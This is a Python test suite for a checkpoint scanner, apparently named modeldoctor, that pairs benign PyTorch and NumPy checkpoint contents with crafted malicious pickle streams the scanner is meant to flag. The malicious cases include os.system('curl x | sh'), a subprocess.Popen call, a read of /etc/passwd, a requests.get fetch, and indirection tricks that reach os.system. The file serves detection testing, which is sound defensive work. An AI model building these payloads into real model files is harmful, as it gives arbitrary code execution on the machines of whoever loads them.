from modeldoctor.rules.base import Context
from tests.rules.builders import STATE, bad, checkpoint, good, named, pickled, saved
from tests.rules.pickles import blob, called, dumped, model_of, stream, text

PAYLOAD = b"\x80\x02" + called("os.system", text("id")) + b"."


def usual():
    """What people put into checkpoints besides tensors."""
    import argparse
    import collections
    import datetime as dt
    import decimal
    import enum
    import functools
    import operator
    import pathlib
    import random
    import re
    import types
    import uuid

    import numpy as np
    import torch

    return {
        "args": argparse.Namespace(lr=0.1, path=pathlib.Path("a")),
        "counts": collections.defaultdict(list, a=[1]),
        "history": collections.deque([1], 3),
        "norm": functools.partial(torch.nn.LayerNorm, eps=1e-6),
        "key": operator.itemgetter(1),
        "relu": torch.relu,
        "upper": str.upper,
        "format": types.SimpleNamespace(a=1),
        "day": dt.datetime(2020, 1, 1, tzinfo=dt.UTC),
        "step": decimal.Decimal("0.1"),
        "flags": re.compile("a", re.IGNORECASE),
        "id": uuid.UUID(int=3),
        "random": random.Random(0),
        "generator": np.random.default_rng(0),
        "mean": np.float32(1),
        "names": np.array(["a", None], dtype=object),
        "device": torch.device("cpu"),
        "optimizer": torch.optim.SGD([torch.zeros(1)], lr=0.1),
        "none": type(None),
        "start": enum.auto,
        "error": ValueError("no"),
        "log": __import__("logging").getLogger("train"),
    }


def hooked():
    """A hook that is not called while loading, and a compiled wheel's worth of layers."""
    import torch

    model = torch.nn.Sequential(torch.nn.Conv2d(1, 1, 1), torch.nn.LSTM(2, 2), torch.nn.MultiheadAttention(4, 2))
    model.register_forward_hook(print)
    return model


def asks_for_the_folder():
    class Asks:
        def __reduce__(self):
            import os

            return os.getcwd, ()

    return {"weight": Asks()}


CASES = [
    bad(
        "os.system",
        stream(called("os.system", text("curl x | sh"))),
        "loading runs `os.system('curl x | sh')`, which talks to the operating system",
        "who wrote it",
        severity="error",
    ),
    bad("in a torch file", saved(asks_for_the_folder), ".getcwd()`", "data.pkl", "weights_only=True", severity="error"),
    bad("Python 2's name", stream(called("__builtin__.eval", text("1"))), "`builtins.eval('1')`"),
    bad("by its other name", stream(called("posix.popen", text("id"))), "`posix.popen('id')`"),
    bad("INST", stream("(", text("id"), "ios\nsystem\n"), "os.system"),
    bad("OBJ", stream("(cos\nsystem\n", text("id"), "o"), "os.system"),
    bad("NEWOBJ", stream("csubprocess\nPopen\n", b")\x81"), "makes an instance of `subprocess.Popen`"),
    bad("a file", stream(called("_io.FileIO", text("/etc/passwd"))), "opens a file"),
    bad(
        "a name computed on the stack",
        stream(text("os"), text("system"), b"\x93", text("id"), b"\x85R", protocol=4),
        "os.s",
    ),
    bad("a dotted name", stream(text("torch.serialization"), text("os.system"), b"\x93)R", protocol=4), "reaches `os`"),
    bad(
        "getattr on an imported module",
        stream(
            "c__builtin__\ngetattr\n(",
            called("importlib.import_module", text("os")),
            text("system"),
            "tR",
            text("id"),
            b"\x85R",
        ),
        "`importlib.import_module('os').system('id')`",
    ),
    bad(
        "an inside of an object",
        stream(called("__builtin__.getattr", b"c__main__\nNet\n", text("__globals__"))),
        "reaches",
    ),
    bad(
        "attrgetter",
        stream(called("operator.attrgetter", text("system")), called("__builtin__.__import__", text("os")), b"\x85R"),
        "is a callable that the pickle computes",
    ),
    bad("partial", stream(called("functools.partial", b"cos\nsystem\n"), text("id"), b"\x85R"), "os.system"),
    bad(
        "handed to a builder that calls it",
        stream(
            called(
                "torch._tensor._rebuild_from_type_v2",
                b"cos\nsystem\n",
                b"ctorch\nTensor\n",
                b"(",
                text("id"),
                b"t",
                b"}",
            )
        ),
        "names `os.system`",
        "hands it to something that calls what it is given",
        severity="error",
    ),
    bad(
        "NumPy's generator calls its second argument",
        stream(called("numpy.random._pickle.__generator_ctor", text("id"), b"cos\nsystem\n")),
        "os.system",
    ),
    bad("map", stream(called("__builtin__.map", b"cos\nsystem\n", b"]")), "os.system"),
    bad(
        "a constructor calls it",
        stream(called("torch.optim.lr_scheduler.LambdaLR", b"N", b"cos\nsystem\n")),
        "hands it to",
    ),
    bad("a function made of bytecode", stream(called("types.FunctionType", b"N", b"}"), b")R"), "runs bytecode"),
    bad("the globals of builtins", stream("cbuiltins\n__dict__\n"), "`builtins.__dict__`", severity="warning"),
    bad("a function of torch", stream(called("torch.utils.collect_env.run", text("id"))), "runs a shell command"),
    bad(
        "one that no list names",
        stream(called("torch.utils.benchmark.utils.compile.bench_all", b")")),
        "no saved model needs",
    ),
    bad("a function of NumPy", stream(called("numpy.f2py.crackfortran.myeval", text("1"))), "evaluates expressions"),
    bad("a function of the standard library", stream(called("sre_parse.parse", text("a"))), "no saved model needs"),
    bad(
        "bytecode that is called",
        stream(called("cloudpickle.cloudpickle._make_function", b"N"), b")R"),
        "runs bytecode",
    ),
    bad(
        "attributes of a module",
        stream("ctorch\n_utils\n", b"}", text("load"), b"cos\nsystem\ns", "b"),
        "changes `torch._utils`",
    ),
    bad("setattr", stream(called("__builtin__.setattr", b"ctorch\nnn\n", text("Linear"), b"N")), "changes any object"),
    bad("another pickle", stream(called("pickle.loads", blob(PAYLOAD)), protocol=3), "loads another pickle"),
    bad(
        "in torch's own way",
        stream(called("torch.storage._load_from_bytes", blob(PAYLOAD)), protocol=3),
        "`os.system('id')`",
    ),
    bad("a package that fetches", stream(called("requests.api.get", text("http://x"))), "fetches addresses"),
    bad("several calls", stream(called("os.getcwd"), b"0", called("os.getpid")), "and 1 more such call", "os.getpid"),
    bad(
        "in the header of a legacy file",
        stream(called("__builtin__.eval", text("0x1950a86a20f9469cfc6c"))),
        "evaluates Python source",
    ),
    bad(
        "only named",
        checkpoint(pickles=[pickled(named("os.system"))]),
        "the pickle names `os.system`",
        severity="warning",
    ),
    bad("bytes that nothing loads", dumped(lambda: {"x": PAYLOAD}, 4), "a pickle of their own", severity="warning"),
    bad("in a TorchScript archive", checkpoint("torchscript", pickles=[pickled(named("os.system", "called"))]), "C++"),
    good("what people put into checkpoints", saved(usual)),
    good("the same as a plain pickle", dumped(usual, 4)),
    good("the same in the text protocol", dumped(usual, 0)),
    good("whole models with hooks", saved(hooked)),
    good("a model of a project", model_of("shop.nets")),
    good("a project's test.py", model_of("test")),
    good("pandas' blocks", stream(called("functools.partial", b"cpandas.core.internals.blocks\nnew_block\n"), b")R")),
    good(
        "dill's labels", stream(called("__builtin__.setattr", b"c__main__\nNet\n", text("__qualname__"), text("Net")))
    ),
    good("a function by name", dumped(lambda: __import__("math").sqrt)),
    good("trusted", stream(called("os.getcwd")), context=Context(trusted_globals=("os.getcwd",))),
    good("trusted by pattern", stream(called("os.getcwd")), context=Context(trusted_globals=("os.*",))),
    good("a state_dict", STATE),
]
